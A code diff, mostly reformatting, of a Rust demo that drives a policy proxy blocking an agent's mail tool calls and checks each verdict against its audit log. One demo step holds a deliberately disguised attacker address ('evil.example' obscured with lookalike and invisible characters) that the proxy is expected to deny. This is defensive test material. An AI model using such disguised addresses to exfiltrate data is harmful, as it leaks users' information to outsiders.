@@ -24,7 +24,8 @@ pub fn run(args: &DemoArgs) -> Outcome {
         Some(directory) => directory.clone(),
         None => std::env::temp_dir().join(format!("bouncer-demo-{}", std::process::id())),
     };
-    std::fs::create_dir_all(&directory).map_err(|error| Failure::file("create", &directory, &error))?;
+    std::fs::create_dir_all(&directory)
+        .map_err(|error| Failure::file("create", &directory, &error))?;
     let result = play(&directory);
     if args.keep.is_none() {
         // Left-overs in the temporary directory are only untidy.
@@ -57,7 +58,10 @@ fn steps() -> Vec<Step> {
         Step {
             story: "the same address, dressed up",
             tool: "send_email",
-            arguments: mail("\u{ff41}udit%40evil\u{200b}.example", "the quarterly report"),
+            arguments: mail(
+                "\u{ff41}udit%40evil\u{200b}.example",
+                "the quarterly report",
+            ),
             expected: "deny",
         },
         Step {
@@ -114,9 +118,14 @@ fn play(directory: &Path) -> Outcome {
     }
     client.finish();
     let mut stdout = anstream::stdout();
-    writeln!(stdout, "\nEvery verdict above was decided by the plan, without a model, and is in the audit log.")?;
+    writeln!(
+        stdout,
+        "\nEvery verdict above was decided by the plan, without a model, and is in the audit log."
+    )?;
     if failed > 0 {
-        return Err(Failure::Message(format!("{failed} verdicts were not the expected ones")));
+        return Err(Failure::Message(format!(
+            "{failed} verdicts were not the expected ones"
+        )));
     }
     Ok(0)
 }
@@ -133,7 +142,8 @@ struct Client {
 impl Client {
     fn start(program: &Path, plan: &Path, directory: &Path) -> Result<Self, Failure> {
         let audit = directory.join("audit.jsonl");
-        let failure = |error: std::io::Error| Failure::Message(format!("cannot start the proxy: {error}"));
+        let failure =
+            |error: std::io::Error| Failure::Message(format!("cannot start the proxy: {error}"));
         let mut child = Command::new(program)
             .args(["run", "--server", "mail", "--plan"])
             .arg(plan)
@@ -147,9 +157,17 @@ impl Client {
             .spawn()
             .map_err(failure)?;
         let (Some(input), Some(output)) = (child.stdin.take(), child.stdout.take()) else {
-            return Err(Failure::Message("the proxy has no standard streams".to_owned()));
+            return Err(Failure::Message(
+                "the proxy has no standard streams".to_owned(),
+            ));
         };
-        let mut client = Self { child, input, output: BufReader::new(output), audit, next_id: 0 };
+        let mut client = Self {
+            child,
+            input,
+            output: BufReader::new(output),
+            audit,
+            next_id: 0,
+        };
         client.request(
             "initialize",
             &json!({
@@ -179,7 +197,9 @@ impl Client {
             if !matches!(read, Ok(bytes) if bytes > 0) {
                 return Err(Failure::Message("the proxy ended early".to_owned()));
             }
-            let Ok(message) = serde_json::from_str::<Value>(&line) else { continue };
+            let Ok(message) = serde_json::from_str::<Value>(&line) else {
+                continue;
+            };
             if message.get("id").and_then(Value::as_u64) == Some(id) {
                 return Ok(message);
             }
@@ -188,7 +208,10 @@ impl Client {
 
     /// Plays one step; whether the verdict was the expected one.
     fn step(&mut self, step: &Step) -> Result<bool, Failure> {
-        let answer = self.request("tools/call", &json!({ "name": step.tool, "arguments": step.arguments }))?;
+        let answer = self.request(
+            "tools/call",
+            &json!({ "name": step.tool, "arguments": step.arguments }),
+        )?;
         let (verdict, reason) = self.last_verdict()?;
         let colour = match verdict.as_str() {
             "allow" => "32",
@@ -199,7 +222,10 @@ impl Client {
         writeln!(stdout, "\n\u{1b}[2m# {}\u{1b}[0m", step.story)?;
         writeln!(stdout, "{} {}", step.tool, step.arguments)?;
         writeln!(stdout, "  \u{1b}[1;{colour}m{verdict:<5}\u{1b}[0m {reason}")?;
-        let text = answer.pointer("/result/content/0/text").and_then(Value::as_str).unwrap_or_default();
+        let text = answer
+            .pointer("/result/content/0/text")
+            .and_then(Value::as_str)
+            .unwrap_or_default();
         let first = text.lines().next().unwrap_or_default();
         writeln!(stdout, "  \u{1b}[2mthe agent sees: {first}\u{1b}[0m")?;
         Ok(verdict == step.expected)
@@ -207,16 +233,32 @@ impl Client {
 
     /// The verdict and reason of the latest audit line.
     fn last_verdict(&self) -> Result<(String, String), Failure> {
-        let log = std::fs::read_to_string(&self.audit).map_err(|error| Failure::file("read", &self.audit, &error))?;
-        let verdicts = log.lines().filter_map(|line| serde_json::from_str::<Value>(line).ok());
-        let last = verdicts.filter(|line| line.get("verdict").is_some()).last().unwrap_or_default();
-        let field = |key: &str| last.get(key).and_then(Value::as_str).unwrap_or_default().to_owned();
+        let log = std::fs::read_to_string(&self.audit)
+            .map_err(|error| Failure::file("read", &self.audit, &error))?;
+        let mut lines = log
+            .lines()
+            .rev()
+            .filter_map(|line| serde_json::from_str::<Value>(line).ok());
+        let last = lines
+            .find(|line| line.get("verdict").is_some())
+            .unwrap_or_default();
+        let field = |key: &str| {
+            last.get(key)
+                .and_then(Value::as_str)
+                .unwrap_or_default()
+                .to_owned()
+        };
         Ok((field("verdict"), field("reason")))
     }
 
     /// Closes the proxy and waits for it.
     fn finish(self) {
-        let Self { mut child, input, output, .. } = self;
+        let Self {
+            mut child,
+            input,
+            output,
+            ..
+        } = self;
         drop((input, output));
         // Its exit code says how the server ended, which is not the demo's business.
         let _ = child.wait();
